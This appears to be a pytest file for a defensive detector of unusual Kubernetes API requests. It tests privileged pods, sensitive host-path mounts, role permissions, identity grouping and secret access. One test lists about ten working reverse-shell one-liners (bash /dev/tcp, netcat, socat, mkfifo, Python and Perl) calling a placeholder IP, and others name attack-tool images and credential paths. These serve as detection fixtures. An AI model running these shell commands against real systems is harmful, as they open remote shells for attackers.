"""What nobody's story tells of unusual requests to clusters: hostile events, who somebody is, and what a pod gets."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest

from tests.playing import known_in, play
from vedette.baselines.habits import WITHIN
from vedette.detectors import kube_pods, kube_traits
from vedette.detectors.declare import Row
from vedette.detectors.known import Known
from vedette.detectors.kubernetes import unusual_requests as detector
from vedette.detectors.signal import Evidence, Signal
from vedette.intel.aws_ranges import AwsRanges
from vedette.intel.lookup import Intel
from vedette.inventory import Inventory
from vedette.logs.eks_audit import KubeCall, decode_record

KNOWN = Known(intel=Intel.of([]), aws=AwsRanges.snapshot(), inventory=Inventory())
MONDAY = datetime(2026, 3, 2, 9, tzinfo=UTC)
FALCO = Path(__file__).resolve().parents[3] / "shared" / "data" / "falco-k8s-audit"
ANYTHING = [None, 7, "", "x" * 50_000, [], {}, [None], [[7]], [{}], {"a": [7]}, [{"name": 7, "image": []}], True]


def call(
    number: int = 0, at: datetime = MONDAY, verb: str = "list", resource: str = "secrets", **fields: Any,
) -> KubeCall:
    about = {"resource": resource, "namespace": "shop"} | fields.pop("about", {})
    return decode_record(msgspec.json.encode({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": f"{number:08x}", "stage": "ResponseComplete",
        "requestURI": "/x", "verb": verb, "user": {"username": "system:serviceaccount:shop:web"},
        "sourceIPs": ["10.0.1.2"], "userAgent": "web/1", "objectRef": about, "responseStatus": {"code": 200},
        "requestReceivedTimestamp": f"{at:%Y-%m-%dT%H:%M:%S.000000Z}", **fields}))


def told(calls: list[KubeCall], memory: detector.ClusterHabits) -> list[Signal]:
    judge = detector.unusual_requests.update
    assert judge is not None
    return list(judge([Row(one.time, Evidence(one.time, one.record, "", "", 0), one) for one in calls], memory, KNOWN))


def weeks(number: int = 20) -> detector.ClusterHabits:
    memory = detector.ClusterHabits()
    told([call(day, MONDAY + timedelta(days=day)) for day in range(number)], memory)
    return memory


@pytest.mark.parametrize("value", ANYTHING, ids=lambda value: str(value)[:20])
@pytest.mark.parametrize("resource", ["pods", "cronjobs", "deployments", "clusterroles", "rolebindings",
                                      "selfsubjectaccessreviews"])
def test_no_event_breaks_it_or_makes_the_memory_large(value: Any, resource: str) -> None:
    memory = weeks()
    before = len(msgspec.msgpack.encode(memory))
    containers = [{"name": "c", "image": value, "command": value, "securityContext": value, "volumeMounts": value,
                   "lifecycle": {"postStart": value}}]
    pods = [value, {"containers": value}, {"containers": containers, "volumes": value, "hostPID": value},
            {"containers": containers * 500, "volumes": [{"name": "v", "hostPath": {"path": value}}] * 500}]
    bodies = [value, {"metadata": value, "spec": value}, {"rules": value, "roleRef": value, "subjects": value},
              {"rules": [{"verbs": value, "resources": value}], "spec": {"resourceAttributes": value}}]
    bodies += [{"spec": {"template": {"spec": pod}} | pod} if isinstance(pod, dict) else {"spec": pod} for pod in pods]
    calls = [call(1_000 + 10 * number + turn, MONDAY + timedelta(days=20, seconds=number), verb, resource,
                  requestObject=body if turn else None, responseObject=None if turn else body, userAgent="x" * 9_000,
                  impersonatedUser={"username": "u" * 9_000})
             for number, body in enumerate(bodies) for turn, verb in enumerate(("create", "patch"))]
    assert [detector.alike(one, KNOWN) for one in calls]
    told(calls, memory)
    assert len(msgspec.msgpack.encode(memory)) < before + 300_000


@pytest.mark.parametrize("path", ["/", "//", "/etc", "/etc/", "/etc/kubernetes/pki", "/var/run/docker.sock",
                                  "/root/.ssh", "/run/containerd/containerd.sock", "/var/lib/kubelet/pki", "/var/run",
                                  "/tmp/../etc", "/var/spool/cron/crontabs", "/proc"])
def test_who_writes_here_has_the_node(path: str) -> None:
    assert kube_pods.is_sensitive(path)


@pytest.mark.parametrize("path", ["", "/data", "/mnt/etc", "/etcd", "/etc/cni/net.d", "/etc/ssl/certs", "/var/log",
                                  "/var/lib/kubelet/device-plugins", "/opt/app", "/var/lib/app", "/dev/shm"])
def test_and_not_here(path: str) -> None:
    assert not kube_pods.is_sensitive(path)


@pytest.mark.parametrize("command", [
    "bash -i >& /dev/tcp/9.9.9.9/4444 0>&1", "sh -i 5<> /dev/tcp/9.9.9.9/1 0<&5 1>&5 2>&5",
    "0<&196;exec 196<>/dev/tcp/9.9.9.9/4242; sh <&196 >&196 2>&196", "nc -e /bin/sh 9.9.9.9 1", "ncat 9.9.9.9 1 -e sh",
    "ncat --exec /bin/bash 9.9.9.9 1", "socat TCP:9.9.9.9:1 EXEC:'bash -li',pty,stderr",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 9.9.9.9 1 >/tmp/f",
    'python3 -c \'import socket,os;s=socket.socket();s.connect(("9.9.9.9",1));os.dup2(s.fileno(),0)\'',
    "perl -e 'use Socket;$i=\"9.9.9.9\";socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
])
def test_a_command_that_gives_somebody_a_shell(command: str) -> None:
    assert _tools({"command": ["sh", "-c", command]})
    assert _tools({"command": ["sh"], "args": ["-c", command]})
    assert _tools({"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", command]}}}})


@pytest.mark.parametrize("command", [
    "until nc -z db 5432; do sleep 1; done", "timeout 1 bash -c '</dev/tcp/localhost/5432'",
    "until (echo > /dev/tcp/db/1)",
    "exec 3<>/dev/tcp/localhost/9000; echo -e 'GET /health HTTP/1.1\\r\\n' >&3; cat <&3", "nc -lk -p 8080 -c 'echo hi'",
    "socat TCP-LISTEN:80,fork TCP:web:8080", "python -m http.server", "ssh -N -L 1:db:1 bastion", "bash -i",
    "./run.sh -e",
])
def test_and_commands_that_wait_and_serve(command: str) -> None:
    assert not _tools({"command": ["sh", "-c", command]})


@pytest.mark.parametrize(("image", "is_one"), [
    ("kalilinux/kali-rolling:latest", True), ("docker.io/metasploitframework/metasploit-framework", True),
    ("ghcr.io/x/xmrig:6", True), ("aquasec/kube-hunter", True), ("acme/kalista", False), ("oryd/hydra", False),
    ("acme/nmapper", False), ("amazon/aws-cdk", False), ("nginx", False)])
def test_an_image_for_breaking_in(image: str, is_one: bool) -> None:
    assert bool(_tools({"image": image})) == is_one


def _tools(container: dict[str, Any]) -> tuple[str, ...]:
    pod = kube_pods.pod_of(call(verb="create", resource="pods", requestObject={"spec": {"containers": [container]}}))
    assert pod is not None
    return pod.tools


def test_a_mount_counts_where_it_can_be_written_to() -> None:
    def mounts(**mount: Any) -> int:
        spec = {"volumes": [{"name": "v", "hostPath": {"path": "/etc"}}, {"name": "w", "hostPath": {"path": "/data"}}],
                "containers": [{"image": "a", "volumeMounts": [{"name": "v", "mountPath": "/x"} | mount]}]}
        pod = kube_pods.pod_of(call(verb="create", resource="pods", requestObject={"spec": spec}))
        return len(pod.mounts) if pod else -1

    assert mounts() == mounts(readOnly=False) == mounts(readOnly="yes") == 1
    assert mounts(readOnly=True) == mounts(name="w") == mounts(name="z") == 0


def _role(*rules: Any, **more: Any) -> bool:
    return kube_traits.only_reads(call(verb="create", resource="roles", requestObject={"rules": list(rules)} | more))


LOOK = {"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list", "watch"]}


@pytest.mark.parametrize("rules", [
    [], [LOOK], [LOOK, LOOK | {"apiGroups": ["*"], "resources": ["deployments"]}],
    [{"nonResourceURLs": ["/healthz"], "verbs": ["get"]}],
])
def test_a_role_that_only_lets_one_look(rules: list[Any]) -> None:
    assert _role(*rules)


@pytest.mark.parametrize("rule", [
    LOOK | {"verbs": ["get", "delete"]}, LOOK | {"verbs": ["*"]}, LOOK | {"resources": ["secrets"]},
    LOOK | {"resources": ["*"]}, LOOK | {"resources": ["pods/exec"]}, LOOK | {"resources": ["pods/portforward"]},
    LOOK | {"resources": ["*/proxy"]}, LOOK | {"resources": ["pods/*"]},
    LOOK | {"resources": ["x"] * 30 + ["secrets"]}, LOOK | {"resources": "pods"},
    LOOK | {"verbs": None}, LOOK | {"resources": [7]}, {}, None,
])
def test_and_roles_that_let_one_do_more_or_do_not_say(rule: Any) -> None:
    assert not _role(LOOK, rule)


def test_of_a_role_whose_rules_are_not_all_known_it_is_not_said() -> None:
    assert not _role(*[LOOK] * 30, LOOK | {"verbs": ["*"]})
    assert not _role(aggregationRule={"clusterRoleSelectors": [{"matchLabels": {"a": "b"}}]})
    assert not kube_traits.only_reads(call(verb="create", resource="roles"))
    assert not kube_traits.only_reads(call(verb="patch", resource="roles", requestObject=[{"op": "add"}]))


def test_a_change_that_is_not_of_pods_is_none_of_its_business() -> None:
    whole = {"spec": {"template": {"spec": {"containers": [
        {"image": "a", "securityContext": {"privileged": True}}]}}}}
    for body in ({"metadata": {"annotations": {}}}, {"spec": {"replicas": 3}},
                 {"spec": {"template": {"metadata": {"annotations": {"restartedAt": "now"}}}}}):
        assert detector.alike(call(verb="patch", resource="deployments", requestObject=body, responseObject=whole),
                              KNOWN) is None
    listed = call(verb="patch", resource="deployments", requestObject=[{"op": "add"}], responseObject=whole)
    assert kube_traits.deployed(listed, kube_traits.Act.DEPLOY).privileged == ("a",)  # type: ignore[union-attr]


@pytest.mark.parametrize(("fields", "of_interest"), [
    ({}, True), ({"user": {"username": "system:anonymous"}}, False), ({"user": None}, False),
    ({"responseStatus": None}, False), ({"resource": "configmaps"}, False),
    ({"resource": "pods", "verb": "create", "requestURI": "/api/v1/namespaces/shop/pods?dryRun=All"}, False),
    ({"resource": "deployments", "verb": "patch", "about": {"subresource": "scale"}}, False)])
def test_who_and_what_is_looked_at(fields: dict[str, Any], of_interest: bool) -> None:
    assert (detector.alike(call(**fields), KNOWN) is not None) == of_interest


def _who(username: str, groups: list[str] | None = None, **extra: list[str]) -> tuple[str, str]:
    return kube_traits.identified(call(user={"username": username, "groups": groups or [], "extra": extra}))


def test_sessions_of_a_role_are_one_and_people_of_identity_center_are_not() -> None:
    role = "arn:aws:sts::111122223333:assumed-role/deploy/{}"
    assert _who(role.format("a")) == _who(role.format("b"))
    assert _who("admin", canonicalArn=["arn:aws:iam::1:role/x"], sessionName=["a"])[0] == "arn:aws:iam::1:role/x"
    sso = "arn:aws:iam::1:role/AWSReservedSSO_Admin_0"
    assert len({_who("admin", canonicalArn=[sso], sessionName=[name]) for name in ("ann", "dan")}) == 2
    assert len({_who(role.replace("deploy", "AWSReservedSSO_A_0").format(name)) for name in ("ann", "dan")}) == 2
    assert _who("system:node:a") == _who("system:node:b")
    assert _who("ann", ["system:authenticated", "b", "a"])[1] == "a, b"
    assert WITHIN not in _who("ann", ["Team / Payments"])[1], "a group's name makes it part of no other"
    assert _who("system:serviceaccount:shop:web")[1] == _who("system:serviceaccount:shop:pay")[1]


def test_what_clusters_do_by_themselves_shows_only_how_and_from_where() -> None:
    owned = {"metadata": {"ownerReferences": [{"controller": True}]}, "spec": {"containers": [{"image": "new"}]}}
    by = {"username": "system:serviceaccount:kube-system:replicaset-controller"}
    made = call(verb="create", resource="pods", user=by, requestObject=owned)
    alone = call(verb="create", resource="pods", user=by, requestObject={"spec": owned["spec"]})
    assert not any(trait.startswith("image:") for trait in detector.alike(made, KNOWN) or ())
    assert "image:new" in (detector.alike(alone, KNOWN) or ())
    other = call(verb="create", resource="pods", user={"username": "system:serviceaccount:shop:replicaset-controller"},
                 requestObject=owned)
    assert "image:new" in (detector.alike(other, KNOWN) or ())


@pytest.mark.parametrize(("query", "name", "is_helms"), [
    ("labelSelector=owner%3Dhelm%2Cname%3Dweb", "", True), ("labelSelector=owner%3D%3Dhelm", "", True),
    ("labelSelector=owner%21%3Dhelm", "", False), ("labelSelector=a%3Dhelm", "", False), ("x=owner=helm", "", False),
    ("labelSelector=owner%3Dhelm&labelSelector=a", "", False), ("", "sh.helm.release.v1.web.v3", True)])
def test_helms_own_secrets_are_no_credentials(query: str, name: str, is_helms: bool) -> None:
    one = call(requestURI=f"/api/v1/secrets?{query}", about={"name": name})
    assert kube_traits.requested(one).endswith("of Helm") == is_helms


def test_rights_are_those_that_are_powerful() -> None:
    def rights(*rules: tuple[str, str]) -> list[str]:
        body = {"rules": [{"verbs": [verb], "resources": [resource]} for verb, resource in rules]}
        return kube_traits.rights_of(call(resource="roles", requestObject=body), kube_traits.Act.ROLE, None)

    assert rights(("get", "pods"), ("list", "nodes"), ("create", "configmaps")) == []
    assert rights(("*", "*")) == ["to do everything"]
    assert rights(("get", "secrets"), ("list", "secrets")) == ["to read secrets"]
    assert rights(("impersonate", "users"), ("bind", "clusterroles")) == ["to act as others", "to give rights"]
    assert "to run commands in pods" in rights(("create", "*"))


def test_a_finding_says_what_is_unusual_and_what_is_usual() -> None:
    night = MONDAY + timedelta(days=20)
    said = told([call(1_000, night, sourceIPs=["81.2.69.160"], userAgent="kubectl/1", about={"namespace": "vault"})],
                weeks())
    assert [one.type for one in said] == [detector.SECRETS.name]
    unusual = {key: one for one in said[0].additional["unusual"] for key in one}
    assert unusual["network"]["network"] == "81.2.0.0/16"
    assert unusual["namespace"]["daysSeenWithPrincipal"] == 0
    assert unusual["namespace"]["principalDays"] > 10
    assert said[0].additional["usual"]["program"][0]["value"] == "web"


def test_a_burst_tells_of_each_kind_the_request_that_shows_it() -> None:
    night = MONDAY + timedelta(days=20)
    cursor = {"userAgent": "kubectl/1"}
    said = told([call(1_000, night, "create", "selfsubjectrulesreviews", **cursor),
                 call(1_001, night + timedelta(minutes=2), "create", "pods", requestObject={"spec": {"containers": [
                     {"image": "a", "securityContext": {"privileged": True}}]}}, **cursor)], weeks())
    assert {one.type: one.action.resource for one in said} == {  # type: ignore[union-attr]
        detector.CHECKED.name: "selfsubjectrulesreviews", detector.PRIVILEGED.name: "pods"}
    assert all(one.first_seen == min(one.evidence).time and one.last_seen == max(one.evidence).time for one in said)


def test_what_waited_of_a_burst_that_is_over_is_not_told_with_the_next() -> None:
    memory, night = weeks(), MONDAY + timedelta(days=20)
    told([call(1_000, night, "create", "selfsubjectrulesreviews", userAgent="kubectl/1")], memory)
    later = night + timedelta(hours=4)
    said = told([call(1_001, later, "create", "pods/x", about={"resource": "pods", "subresource": "exec"},
                      userAgent="curl/8", sourceIPs=["81.2.69.160"])], memory)
    assert {one.type for one in said} == {detector.EXEC.name}


@pytest.mark.skipif(not FALCO.is_dir(), reason="the shared test data are not here")
@pytest.mark.parametrize(("name", "types"), [
    ("create_nginx_pod_privileged", [detector.FIRST_PRIVILEGED]),
    ("create_nginx_pod_privileged_2nd_container", [detector.FIRST_PRIVILEGED]),
    ("create_nginx_pod_sensitive_mount", [detector.FIRST_MOUNT]),
    ("create_nginx_pod_sensitive_mount_2nd_container", [detector.FIRST_MOUNT]),
    ("create_nginx_pod_unprivileged", []), ("create_nginx_pod_unsensitive_mount", []),
    ("create_deployment", []), ("create_secret", [])])
def test_recorded_events_of_an_api_server(name: str, types: list[Any], tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "a.json").write_bytes((FALCO / f"{name}.json").read_bytes())
    assert play(tmp_path / "logs", known_in(tmp_path)).types == [one.name for one in types]
